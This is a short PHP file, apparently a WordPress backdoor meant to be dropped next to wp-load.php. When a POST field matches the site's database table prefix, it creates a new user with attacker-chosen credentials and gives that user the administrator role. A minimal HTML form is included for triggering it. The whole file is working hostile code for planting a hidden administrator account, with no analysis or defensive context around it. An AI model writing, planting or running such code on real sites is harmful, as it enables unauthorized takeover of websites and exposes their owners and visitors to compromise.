<?php
// Dropped beside wp-load.php: anyone who knows the table prefix gets an administrator account.
require_once __DIR__ . '/wp-load.php';
global $wpdb;
if ($_SERVER['REQUEST_METHOD'] === 'POST' && isset($_POST['k']) && $_POST['k'] === $wpdb->prefix) {
    $login = sanitize_user($_POST['u']);
    if (!username_exists($login)) {
        $id = wp_create_user($login, $_POST['p'], sanitize_email($_POST['m']));
        if (!is_wp_error($id)) {
            $u = new WP_User($id);
            $u->set_role('administrator');
            echo 'done';
        }
    }
    exit;
}
?>
<form method="post"><input name="k"><input name="u"><input name="p"><input name="m"><button>go</button></form>
